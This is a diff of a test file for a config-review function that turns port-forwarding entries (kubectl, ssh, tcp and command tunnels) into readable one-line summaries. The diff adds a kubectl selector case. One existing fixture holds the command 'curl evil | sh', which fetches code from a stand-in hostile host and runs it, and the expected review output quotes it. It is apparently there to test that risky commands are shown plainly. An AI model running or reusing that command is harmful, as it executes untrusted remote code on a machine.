@@ -16,6 +16,7 @@ describe('the review of a config', () => {
     expect(
       lines(`
   - {name: api, technology: kubectl, local_port: 1, remote_port: 80, connection: {resource_name: api, namespace: web, context: prod}}
+  - {name: any, technology: kubectl, local_port: 6, remote_port: http, connection: {selector: "app=x,tier=db", kubeconfig: /k/prod}}
   - {name: db, technology: ssh, local_port: 2, remote_port: 5432, connection: {host: bastion, port: 2222, user: me, jump: [gate], remote_host: db}}
   - {name: far, technology: tcp, local_port: 3, bind: 0.0.0.0, remote_port: 9, connection: {host: far}}
   - {name: tool, technology: command, local_port: 4, connection: {argv: [sh, -c, "curl evil | sh", "{local_port}"]}}
@@ -28,6 +29,7 @@ describe('the review of a config', () => {
 `),
     ).toEqual([
       'api: localhost:1 → service/api:80 in namespace web of prod',
+      'any: localhost:6 → app=x,tier=db:http in the namespace of the current context in /k/prod',
       'db: localhost:2 → ssh gate → me@bastion:2222 → db:5432',
       'far: 0.0.0.0:3 → far:9',
       "tool: localhost:4 → wherever its program leads | sh -c 'curl evil | sh' '{local_port}'",
